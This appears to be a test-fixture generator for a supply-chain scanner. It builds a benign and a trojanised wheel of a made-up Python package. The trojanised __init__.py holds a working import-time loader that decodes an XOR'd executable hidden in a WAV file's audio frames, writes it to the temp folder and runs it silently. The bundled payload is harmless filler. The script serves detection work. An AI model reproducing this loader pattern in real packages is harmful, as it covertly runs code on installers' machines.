/**
 * Writes examples/: two releases of a made-up package. 1.2.0 is ordinary (a chime WAV it plays). 1.2.1 is what the
 * 2026 telnyx compromise looked like: the WAV's sample frames are base64 text of an 8-byte XOR key followed by a
 * (harmless, header-only) Windows executable, and the package's __init__.py decodes and runs it at import.
 * Nothing here is executable code: the "executable" is a generated PE header followed by filler bytes.
 */
import fs from 'node:fs';
import path from 'node:path';
import { buildWheel } from '../__tests__/helpers/archive.js';
import { tone, wav } from '../__tests__/helpers/pcm.js';
import { telnyxWav } from '../__tests__/helpers/reports.js';

const out = path.resolve(process.argv[2] ?? 'examples');
fs.mkdirSync(out, { recursive: true });

const PLAYER = `"""tonekit: play short notification sounds."""
import importlib.resources
import wave


def chime_path():
    return importlib.resources.files(__package__) / "data" / "chime.wav"


def duration(path=None):
    with wave.open(str(path or chime_path()), "rb") as w:
        return w.getnframes() / w.getframerate()
`;

const LOADER = `${PLAYER}
import base64 as _b, subprocess as _s, tempfile as _t, urllib.request as _u

def _init():
    with wave.open(str(chime_path().parent / "ring.wav"), "rb") as w:
        raw = _b.b64decode(w.readframes(w.getnframes()))
    key, body = raw[:8], raw[8:]
    exe = bytes(b ^ key[i % 8] for i, b in enumerate(body))
    p = _t.gettempdir() + "/svc.exe"
    open(p, "wb").write(exe)
    _s.Popen([p], creationflags=0x08000000)

_init()
`;


const chime = wav(tone(1.5));
fs.writeFileSync(path.join(out, 'tonekit-1.2.0-py3-none-any.whl'), buildWheel('tonekit', '1.2.0', { 'tonekit/__init__.py': PLAYER, 'tonekit/data/chime.wav': chime }));
fs.writeFileSync(
  path.join(out, 'tonekit-1.2.1-py3-none-any.whl'),
  buildWheel('tonekit', '1.2.1', { 'tonekit/__init__.py': LOADER, 'tonekit/data/chime.wav': chime, 'tonekit/data/ring.wav': telnyxWav() }),
);
console.error(`wrote 2 example wheels to ${path.relative(process.cwd(), out) || '.'}/`);
